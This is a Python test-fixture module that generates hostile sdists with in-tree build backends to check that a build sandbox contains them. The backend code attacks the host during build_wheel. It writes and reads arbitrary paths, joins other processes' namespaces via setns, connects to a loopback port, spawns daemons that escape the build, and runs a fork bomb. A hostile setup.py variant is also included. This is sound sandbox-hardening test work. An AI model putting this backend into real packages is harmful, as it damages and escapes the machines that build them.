"""Hostile sdists: build backends that attack the host, for the sandbox tests.

Each sdist carries an in-tree PEP 517 backend (no build requirements) that
tries one class of attack, prints ``ATTEMPT <name>: <outcome>`` for every try
(so a test can see that the attack really ran), then fails the build. The
targets (host paths, a loopback port, a secret file, a marker for processes)
come from ``targets.json`` in the sdist, written by the test.
"""

from __future__ import annotations

import json
from typing import Any

_BACKEND = r'''
"""A hostile in-tree backend (rules_wheelhouse tests)."""
import ctypes, json, os, socket, subprocess, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.json")) as f:
    T = json.load(f)


def attempt(name, fn):
    try:
        outcome = fn()
    except BaseException as exc:  # noqa: BLE001
        outcome = "blocked: %s: %s" % (type(exc).__name__, exc)
    print("ATTEMPT %s: %s" % (name, outcome), flush=True)


def write(path):
    def go():
        with open(path, "w") as f:
            f.write("pwned by a build backend\n")
        return "WROTE " + path
    return go


def read(path):
    def go():
        with open(path) as f:
            return "READ " + path + " " + f.read()
    return go


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    s.sendall(b"pwned\n")
    s.close()
    return "CONNECTED"


def setns_everywhere():
    libc = ctypes.CDLL(None, use_errno=True)
    joined = []
    for pid in sorted(os.listdir("/proc")):
        if not pid.isdigit():
            continue
        for ns, flag in (("net", 0x40000000), ("mnt", 0x00020000), ("user", 0x10000000), ("pid", 0x20000000)):
            try:
                fd = os.open("/proc/%s/ns/%s" % (pid, ns), os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, flag) == 0:
                joined.append("%s/%s" % (pid, ns))
            os.close(fd)
    try:
        connect(T["port"])
        return "joined %s and CONNECTED" % joined
    except OSError as exc:
        return "joined %s, connect failed: %s" % (joined, exc)


def new_user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) == 0:
        return "UNSHARED a new user namespace"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def attack(kind):
    me = (os.getuid(), os.getpid(), socket.gethostname())
    print("hostile backend: uid %d, pid %d, host %s" % me, flush=True)
    if kind == "write":
        for path in T["write"]:
            attempt("write " + path, write(path))
        for path in T["modify"]:
            attempt("modify " + path, write(path))
    elif kind == "read":
        for path in T["read"]:
            attempt("read " + path, read(path))
        attempt("list /", lambda: sorted(os.listdir("/")))
    elif kind == "network":
        attempt("connect", lambda: connect(T["port"]))
        attempt("setns", setns_everywhere)
        attempt("unshare user", new_user_namespace)
    elif kind == "background":
        marker = T["marker"]
        attempt("setsid", lambda: subprocess.Popen(["setsid", "sleep", marker]).pid)
        def daemon():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execvp("sleep", ["sleep", marker])
                os._exit(0)
            return "forked"
        attempt("double fork", daemon)
    elif kind == "forkbomb":
        print("ATTEMPT forkbomb: starting", flush=True)
        children = 0
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError as exc:
                print("ATTEMPT forkbomb: fork refused after %d: %s" % (children, exc), flush=True)
                time.sleep(600)
                break
            if pid == 0:
                time.sleep(600)
                os._exit(0)
            children += 1
    elif kind == "sleep":
        print("ATTEMPT sleep: sleeping", flush=True)
        subprocess.Popen(["sleep", T["marker"]])
        time.sleep(600)
    raise RuntimeError("hostile backend done: " + kind)


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open(os.path.join(HERE, "kind.txt")) as f:
        attack(f.read().strip())
'''


def hostile(kind: str, targets: dict[str, Any]) -> dict[str, str]:
    """Files of an sdist whose backend makes the ``kind`` attack on ``targets``.

    ``kind``: write | read | network | background | forkbomb | sleep.
    """
    return {
        "pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "hostile_backend"\nbackend-path = ["_backend"]\n'
        ),
        "PKG-INFO": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
        "_backend/hostile_backend.py": _BACKEND,
        "_backend/kind.txt": kind + "\n",
        "_backend/targets.json": json.dumps(targets),
    }


#: A setup.py that writes outside its tree (the attack the hardening issue measured).
SETUP_PY_WRITER = """\
import os, json
from setuptools import setup
targets = json.load(open("targets.json"))
for path in targets["write"]:
    try:
        with open(path, "w") as f:
            f.write("pwned by setup.py\\n")
        print("ATTEMPT write", path, "WROTE")
    except OSError as exc:
        print("ATTEMPT write", path, "blocked:", exc)
raise SystemExit("hostile setup.py done")
"""
